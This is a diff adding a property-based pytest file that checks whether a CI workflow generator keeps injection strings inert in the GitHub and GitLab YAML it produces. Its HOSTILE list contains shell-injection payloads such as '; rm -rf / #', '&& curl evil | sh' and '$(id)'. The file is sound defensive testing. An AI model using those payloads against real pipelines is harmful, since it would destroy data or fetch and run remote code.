@@ -1,0 +1,213 @@
+"""Property-based proof: specs generated from the schema, hostile text in every free-text field.
+
+Each output must parse, keep every hostile string verbatim as inert data, and pass the real
+checkers. GENCI_EXAMPLES sets how many specs are generated (default 25, well under a minute):
+
+    GENCI_EXAMPLES=500 python -m pytest tests/test_properties.py
+"""
+
+from __future__ import annotations
+
+import copy
+import json
+import os
+import re
+
+from hypothesis import HealthCheck, Phase, given, settings
+from hypothesis import strategies as st
+from hypothesis_jsonschema import from_schema
+from ruamel.yaml import YAML
+
+from generator.pipeline import generate
+from generator.validation import spec_schema
+from tests.conftest import run_tool
+
+EXAMPLES = int(os.environ.get("GENCI_EXAMPLES", "25"))
+# No shrinking: a generated spec is small enough to read, and shrinking one can take minutes.
+SETTINGS = settings(
+    max_examples=EXAMPLES, deadline=None, suppress_health_check=list(HealthCheck), database=None,
+    phases=[Phase.explicit, Phase.generate],
+)
+
+HOSTILE = [
+    "${{ github.token }}", "${{ secrets.REGISTRY_PASSWORD }}", "$[[ inputs.tag ]]", "$(id)", "`id`",
+    "{{ 7 * 7 }}", "{% raw %}x{% endraw %}", "{#", "line1\nline2", "'\"'", "# not a comment", "a: b",
+    "*alias", "&anchor", "!tag", "%directive", "@at", "- item", "? key", "|", ">", "ünïcødé ✓ 😀",
+    "$HOME", "$$", "${CI_JOB_TOKEN}", "\\n", "'${{'", "}} {{", "x" * 3000, " leading space", "trailing ",
+    "null", "true", "0x1F", "~", "\u2028sep", "tab\there", "; rm -rf / #", "&& curl evil | sh",
+]
+
+
+def _allowed(value: str, schema: dict) -> bool:
+    pattern = schema.get("pattern")
+    return len(value) <= schema.get("maxLength", len(value)) and (pattern is None or re.fullmatch(pattern, value) is not None)
+
+
+def github_evaluate(text: str) -> str:
+    """What GitHub makes of a workflow string; fails on any expression that is not a string literal."""
+    out, index = [], 0
+    while (start := text.find("${{", index)) >= 0:
+        out.append(text[index:start])
+        cursor, quoted = start + 3, False
+        while cursor < len(text) and (quoted or not text.startswith("}}", cursor)):
+            quoted ^= text[cursor] == "'"
+            cursor += 1
+        assert cursor < len(text), f"unterminated expression in {text!r}"
+        literal = re.fullmatch(r"\s*'((?:[^']|'')*)'\s*", text[start + 3 : cursor])
+        assert literal, f"live expression {text[start:cursor + 2]!r}"
+        out.append(literal.group(1).replace("''", "'"))
+        index = cursor + 2
+    return "".join(out) + text[index:]
+
+
+def repair(spec: dict) -> dict:
+    """Make a schema-valid spec also pass the semantic rules, changing as little as possible."""
+    spec = copy.deepcopy(spec)
+    spec.pop("$schema", None)
+    docker = spec.setdefault("docker", {})
+    push = spec.setdefault("push", {})
+    scan = spec.setdefault("scan", {})
+    runners = spec.setdefault("runners", {})
+    if docker.get("mode", "socket") == "socket":
+        for key in list(docker):
+            if key not in ("mode", "version", "buildkit"):
+                del docker[key]
+    else:
+        if docker.get("network", "isolated") == "isolated":
+            docker.pop("bip", None)
+            docker.pop("mtu", None)
+        if docker.get("iptables") is False and docker.get("icc") is False:
+            del docker["icc"]
+        isolated = docker.get("network", "isolated") == "isolated"
+        if docker.get("iptables", not isolated) is False and docker.get("icc", isolated) is False:
+            docker.pop("iptables", None)
+            docker.pop("icc", None)
+        if docker.get("github_daemon") == "service":
+            docker["dind_digest"] = "sha256:" + "0" * 64
+    triggers = spec.setdefault("triggers", {})
+    # Cron ranges are a semantic rule (GC112), tested on its own; keep only expressions that pass it.
+    from generator.rules import _cron_problem
+
+    triggers["schedule"] = [c for c in triggers.get("schedule", []) if _cron_problem(c) is None]
+    runners["github"] = ["ubuntu-24.04"]
+    if "gitlab" in spec["targets"]:
+        runners["gitlab"] = runners.get("gitlab") or ["docker"]
+        if push.get("auth") == "oidc":
+            push["auth"] = "token"
+        for image in spec["images"]:
+            image["platforms"] = image.get("platforms", ["linux/amd64"])[:1]
+            if image.get("cache") == "gha":
+                image["cache"] = "auto"
+    if scan.get("tool") == "none":
+        scan.pop("fail_on", None)
+        scan.pop("ignore_unfixed", None)
+    auth = push.get("auth", "token")
+    if auth == "secrets":
+        push.setdefault("username", "REGISTRY_USER")
+        push.setdefault("password", "REGISTRY_PASSWORD")
+        push.setdefault("environment", "registry")
+    if auth == "oidc":
+        push.setdefault("aws_role", "arn:aws:iam::123456789012:role/push")
+        push.setdefault("aws_region", "eu-west-1")
+    for index, image in enumerate(spec["images"]):
+        image["id"] = f"img{index}"
+        if auth == "token" and "github" in spec["targets"]:
+            image["repository"] = "ghcr.io/" + image["repository"].split("/", 1)[1]
+    return spec
+
+
+@st.composite
+def hostile_specs(draw):
+    schema = spec_schema()
+    # from_schema rewrites the schema it is given; the generator's cached copy must stay intact.
+    spec = repair(draw(from_schema(copy.deepcopy(schema))))
+    image_schema = schema["$defs"]["image"]["properties"]
+    placed = {}
+    name = draw(st.sampled_from([h for h in HOSTILE if _allowed(h, schema["properties"]["name"])]))
+    spec["name"] = placed["name"] = name
+    for index, image in enumerate(spec["images"]):
+        image["test"] = placed[f"test{index}"] = draw(st.sampled_from(HOSTILE))
+        value_schema = image_schema["build_args"]["additionalProperties"]
+        value = draw(st.sampled_from([h for h in HOSTILE if _allowed(h, value_schema)]))
+        image["build_args"] = {"HOSTILE": value}
+        placed[f"arg{index}"] = value
+    return spec, placed
+
+
+def _yaml(text: str):
+    return YAML(typ="safe").load(text)
+
+
+def _check_github(doc: dict, spec: dict, placed: dict) -> None:
+    assert github_evaluate(doc["name"]) == placed["name"]
+    for index in range(len(spec["images"])):
+        for job_id, job in doc["jobs"].items():
+            if not job_id.endswith(f"-img{index}"):
+                continue
+            steps = {step["name"]: step for step in job["steps"]}
+            assert github_evaluate(steps[f"Test img{index}"]["env"]["TEST_SCRIPT"]) == placed[f"test{index}"]
+            args = github_evaluate(steps[f"Build img{index}"]["with"]["build-args"])
+            assert args == f"HOSTILE={placed[f'arg{index}']}"
+            for step in job["steps"]:
+                assert "${{" not in step.get("run", "")
+
+
+def _check_gitlab(doc: dict, spec: dict, placed: dict) -> None:
+    for index in range(len(spec["images"])):
+        for job_id in (f"build-img{index}", f"release-img{index}"):
+            if job_id not in doc:
+                continue
+            variables = doc[job_id]["variables"]
+            assert variables["GEN_CI_TEST_SCRIPT"] == {"value": placed[f"test{index}"], "expand": False}
+            assert variables["GEN_CI_BUILD_ARG_HOSTILE"] == {"value": placed[f"arg{index}"], "expand": False}
+
+
+def test_hostile_specs_render_inert_and_pass_every_checker(tmp_path):
+    outputs: dict[str, list[str]] = {"github": [], "gitlab": []}
+
+    @SETTINGS
+    @given(hostile_specs())
+    def render_one(case):
+        spec, placed = case
+        number = sum(map(len, outputs.values()))
+        spec_file = tmp_path / f"spec{number}.yml"
+        spec_file.write_text(json.dumps(spec, ensure_ascii=False), encoding="utf-8")  # JSON is YAML 1.2
+        for platform in spec["targets"]:
+            _, _, text = generate(spec_file, platform)
+            doc = _yaml(text)
+            (_check_github if platform == "github" else _check_gitlab)(doc, spec, placed)
+            out = tmp_path / f"out{number}-{platform}.yml"
+            out.write_text(text)
+            outputs[platform].append(str(out))
+
+    render_one()
+    github, gitlab = outputs["github"], outputs["gitlab"]
+    assert github or gitlab
+    checks = []
+    if github:
+        checks += [
+            run_tool("check-jsonschema", "--builtin-schema", "vendor.github-workflows", *github),
+            run_tool("actionlint", "-no-color", *github),
+            run_tool("zizmor", "--offline", "--no-progress", "--persona", "pedantic", *github),
+            run_tool("zizmor", "--offline", "--no-progress", "--persona", "auditor", *github),
+        ]
+    if gitlab:
+        checks += [
+            run_tool("check-jsonschema", "--builtin-schema", "vendor.gitlab-ci", *gitlab),
+        ]
+        from generator.lint.document import read_pipeline
+        from generator.lint.rules import lint
+
+        assert [finding for path in gitlab for finding in lint(read_pipeline(path))] == []
+    for result in checks:
+        assert result.returncode == 0, f"{result.args[:3]}\n{result.stdout[-4000:]}\n{result.stderr[-2000:]}"
+
+
+def test_the_evaluator_catches_live_expressions():
+    assert github_evaluate("a ${{ '${{' }} b") == "a ${{ b"
+    for live in ("${{ github.token }}", "x ${{ 'a' }}${{ secrets.X }}"):
+        try:
+            github_evaluate(live)
+        except AssertionError:
+            continue
+        raise AssertionError(f"{live!r} passed as inert")
